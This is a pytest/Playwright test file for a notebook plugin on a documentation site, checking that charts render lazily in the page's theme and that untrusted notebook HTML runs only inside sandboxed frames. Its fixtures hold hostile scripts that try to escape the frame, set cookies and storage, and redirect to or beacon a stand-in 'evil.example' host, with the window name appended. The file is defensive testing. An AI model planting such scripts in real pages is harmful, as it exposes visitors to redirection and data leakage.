"""Charts of notebooks in a real browser: when they are drawn, and what their frames may do."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.conftest import serve, watch
from tests.site.building import build_site

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

needs_plotly = pytest.mark.skipif(not find_spec("plotly"), reason="plotly is not installed")
FIGURE = {
    "data": [{"type": "scatter", "x": [1, 2, 3], "y": [2, 1, 3], "name": "a"}],
    "layout": {"title": {"text": "Lines"}, "template": {"layout": {"font": {"color": "#2a3f5f"}}}},
}
# No word of it names the host, which would be shown to the reader and allowed after the click.
HOSTILE = """<p id="out">nothing ran</p><script>
const found = [], evil = "https://ev" + "il.example/";
const attempt = (name, act) => { try { act(); found.push(name); } catch {} };
attempt("the page", () => parent.parent.document.body.append("seen"));
attempt("the top", () => { top.location.href = evil; });
attempt("cookies", () => { document.cookie = "a=1"; });
attempt("storage", () => localStorage.setItem("a", "1"));
attempt("a window", () => { if (!open(evil)) throw 0; });
new Image().src = evil + "a.png";
fetch(evil).catch(() => {});
document.querySelector("#out").textContent = `ran, reached ${found.join(", ") || "nothing"}`;
</script>"""
LEAVING = """<p>leaving</p><script>location = "https://ev" + "il.example/?" + name;</script>"""


def cell(key: str, **bundle: Any) -> dict[str, Any]:
    data = {"application/vnd.plotly.v1+json": bundle["figure"]} if "figure" in bundle else bundle
    output = {"output_type": "display_data", "metadata": {}, "data": data}
    return {"cell_type": "code", "id": key, "metadata": {}, "source": "show()",
            "execution_count": 1, "outputs": [output]}  # fmt: skip


def text(key: str, source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": key, "metadata": {}, "source": source}


NOTEBOOKS = {
    "charts": [
        text("t", "# Charts"), cell("near", figure=FIGURE), text("gap", "Text.\n\n" * 120),
        cell("far", figure=FIGURE),
    ],
    "plain": [text("t", "# Plain\n\n[charts](charts.ipynb)")],
    "scripts": [
        text("t", "# Scripts"), cell("hostile", **{"text/html": HOSTILE}),
        cell("leaving", **{"text/html": LEAVING}),
    ],
}  # fmt: skip


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a site of three notebooks."""
    root = tmp_path_factory.mktemp("charts")
    (root / "content").mkdir()
    (root / "content/index.md").write_text("# Home\n")
    for name, cells in NOTEBOOKS.items():
        notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
        Path(root / f"content/{name}.ipynb").write_text(json.dumps(notebook))
    theme = {"name": "material", "font": False, "features": ["navigation.instant"]}
    config = {"site_name": "A", "docs_dir": "content", "theme": theme,
              "plugins": ["search", "proofolio/notebooks"]}  # fmt: skip
    folder = root / "site"
    with serve(folder) as address:
        (root / "mkdocs.yml").write_text(yaml.safe_dump({**config, "site_url": address}))
        build_site(root / "mkdocs.yml", folder)
        yield address


@pytest.fixture
def page(browser: Browser, site: str, complaints: list[str]) -> Iterator[Page]:
    page = browser.new_page(viewport={"width": 1000, "height": 700})
    watch(page, site, complaints)
    page.asked = []  # type: ignore[attr-defined]
    page.on("request", lambda request: page.asked.append(request.url))  # type: ignore[attr-defined]
    page.goto(site)
    yield page
    page.close()


def libraries(page: Page) -> list[str]:
    return [url for url in page.asked if "/libraries/" in url]  # type: ignore[attr-defined]


def ink_of(page: Page, chart: str) -> str:
    inner = page.frame_locator(f"#{chart} iframe").frame_locator("iframe")
    return str(inner.locator(".gtitle").evaluate("title => getComputedStyle(title).fill"))


@needs_plotly
def test_charts_are_drawn_near_the_screen_in_the_colours_of_the_page(
    page: Page, site: str, complaints: list[str]
) -> None:
    page.goto(f"{site}plain/")
    page.wait_for_load_state("networkidle")
    assert libraries(page) == []

    page.evaluate("window.samePage = true")
    page.locator(".pf-notebook a[href$='charts/']").click()
    near, far = (page.locator(f"#{key} [data-pf-chart]") for key in ("near", "far"))
    expect(near).to_have_attribute("data-pf-state", "drawn", timeout=30_000)
    assert page.evaluate("window.samePage"), "the page was loaded anew"
    assert near.get_by_role("table").count() == 0
    assert far.get_attribute("data-pf-state") is None
    assert near.locator("iframe").get_attribute("title") == "Lines"

    light = ink_of(page, "near")
    page.evaluate("document.body.setAttribute('data-md-color-scheme', 'slate')")
    inner = page.frame_locator("#near iframe").frame_locator("iframe")
    expect(inner.locator(".gtitle")).not_to_have_css("fill", light)

    height = "chart => chart.getBoundingClientRect().height"
    before = far.evaluate(height)
    far.scroll_into_view_if_needed()
    expect(far).to_have_attribute("data-pf-state", "drawn", timeout=30_000)
    assert abs(far.evaluate(height) - before) < 60, "the page moved"
    assert len(libraries(page)) == 1
    assert complaints == []


def test_scripts_run_after_a_click_and_reach_nothing(page: Page, site: str) -> None:
    reached: list[str] = []  # what got past the rules of the frames, on its way to the network

    def stop(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    page.route(re.compile("evil"), stop)
    page.goto(f"{site}scripts/")
    hostile, leaving = (page.locator(f"#{key} [data-pf-chart]") for key in ("hostile", "leaving"))
    page.wait_for_load_state("networkidle")
    assert page.locator("iframe").count() == 0
    for place in (hostile, leaving):
        place.get_by_role("button").click()
    inner = page.frame_locator("#hostile iframe").frame_locator("iframe")
    expect(inner.locator("#out")).to_have_text("ran, reached nothing", timeout=15_000)
    page.wait_for_timeout(500)
    assert page.url == f"{site}scripts/"
    assert len(page.context.pages) == 1
    assert page.evaluate("document.cookie") == ""
    assert page.evaluate("localStorage.getItem('a')") is None
    assert reached == []


def test_data_stands_there_without_javascript(browser: Browser, site: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{site}charts/")
    expect(page.locator("#near table")).to_be_visible()
    assert page.locator("button:visible").count() == 0
    context.close()
